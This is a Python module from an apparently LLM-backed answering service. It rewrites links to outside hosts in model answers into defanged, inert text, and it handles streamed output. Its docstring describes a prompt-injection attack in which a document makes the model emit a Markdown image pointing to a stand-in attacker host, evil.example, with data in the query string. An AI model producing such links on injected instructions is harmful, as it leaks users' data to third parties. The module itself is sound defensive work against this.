"""Links and images to other hosts, defanged in answers: a document's words must not make a client fetch or link out.

A document can carry a prompt injection that has the model write ``![](https://evil.example/?q=...)``:
a chat front end on ``/v1`` that renders Markdown would load that picture (and send what the
query string holds) or show the link. Every absolute URL whose host is not one of the app's own
is rewritten in the conventional defanged form (``https[:]//evil[.]example/...``), readable to a
person and a link to nobody, before the answer leaves the answering service, so every surface
(web, ``/v1``, the command line) shows the same inert text. Relative links stay.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

HOST_CHARS = r"[^\s/\\?#<>()\[\]{}\"'`|^]"
URL_RE = re.compile(
    rf"(?P<scheme>\b[a-z][a-z0-9+.\-]*):(?P<slashes>[/\\]{{2}})(?P<host>{HOST_CHARS}*)"  # https://host, https:\\host
    rf"|(?<![\w/\\:.])(?P<rel>[/\\]{{2}})(?P<rhost>[a-z0-9\-]+(?:\.[a-z0-9\-]+)+(?::\d+)?)"  # //host.tld
    rf"|(?<![\w.])(?P<www>www\.{HOST_CHARS}+)",  # www.host, which Markdown renderers link by themselves
    re.IGNORECASE,
)
ENTITY_RE = re.compile(r"&(?=#?\w+;)")  # &#104;ttps:// is https:// to a Markdown renderer
HOLD_CHARS = 2048  # the longest run without whitespace held back while streaming


def _host_name(authority: str) -> str:
    """The host of ``user@host:port`` in lower case."""
    host = authority.rsplit("@", 1)[-1]
    if host.startswith("["):
        return host.split("]", 1)[0].strip("[").lower()
    return host.split(":", 1)[0].rstrip(".").lower()


def defang_links(text: str, own_hosts: Iterable[str] = ()) -> str:
    """``text`` with every URL to a host not in ``own_hosts`` made inert, and character references escaped."""
    own = {h.lower() for h in own_hosts}

    def inert(found: re.Match[str]) -> str:
        authority = found.group("host") or found.group("rhost") or found.group("www")
        if _host_name(authority) in own:
            return found.group(0)
        host = authority.replace(".", "[.]")
        if found.group("scheme"):
            return f"{found.group('scheme')}[:]{found.group('slashes')}{host}"
        if found.group("rel"):
            return f"[{found.group('rel')}]{host}"
        return host

    return URL_RE.sub(inert, ENTITY_RE.sub("&amp;", text))


class LinkGuard:
    """Defangs a stream of answer pieces: each run of non-space text is let through once it is complete."""

    def __init__(self, own_hosts: Iterable[str] = ()) -> None:
        self.own_hosts = frozenset(h.lower() for h in own_hosts)
        self.pending = ""

    def feed(self, piece: str) -> str:
        """What of the text so far can be shown now (possibly nothing)."""
        self.pending += piece
        cut = max(self.pending.rfind(space) for space in " \n\t\r") + 1
        if len(self.pending) - cut > HOLD_CHARS:
            cut = len(self.pending)
        ready, self.pending = self.pending[:cut], self.pending[cut:]
        return defang_links(ready, self.own_hosts) if ready else ""

    def flush(self) -> str:
        """The rest, at the end of the answer."""
        rest, self.pending = self.pending, ""
        return defang_links(rest, self.own_hosts) if rest else ""


def own_hosts(public_url: str | None, allowed_hosts: Iterable[str]) -> frozenset[str]:
    """The host names that are the app's own (links to them stay links)."""
    from urllib.parse import urlsplit

    names = {h.strip().lower() for h in allowed_hosts if h.strip() and not h.startswith(".")}
    if public_url and urlsplit(public_url).hostname:
        names.add(str(urlsplit(public_url).hostname).lower())
    return frozenset(names)
